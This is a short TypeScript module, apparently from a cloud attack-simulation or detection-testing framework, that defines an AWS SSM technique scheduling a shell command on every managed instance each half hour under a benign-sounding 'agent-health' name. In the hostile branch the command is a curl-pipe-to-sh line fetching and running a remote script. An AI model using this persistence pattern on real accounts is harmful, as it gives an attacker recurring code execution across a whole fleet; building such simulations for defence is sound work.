import type { Act, Technique } from '../technique.ts';

async function association(act: Act): Promise<void> {
  const hostile = !act.by.ip.startsWith('198.');
  const { AssociationDescription } = await act.call('ssm', 'CreateAssociation', {
    Name: 'AWS-RunShellScript',
    AssociationName: act.name(['agent-health', 'baseline']),
    Targets: [{ Key: 'InstanceIds', Values: ['*'] }],
    Parameters: { commands: [hostile ? `curl -fsS http://${act.company.script}/s.sh | sh` : 'df -h'] },
    ScheduleExpression: 'rate(30 minutes)',
  });
  const id = AssociationDescription.AssociationId;
  act.made('AWS::SSM::Association', id, act.arn('ssm', `association/${id}`));
}

/** A standing order to every managed machine, carried out again each half hour. */
export const technique: Technique = {
  id: 'ssm-association',
  place: 'region',
  makes: ['AWS::SSM::Association'],
  needs: ['ssm:CreateAssociation'],
  play: association,
  innocent: association,
};
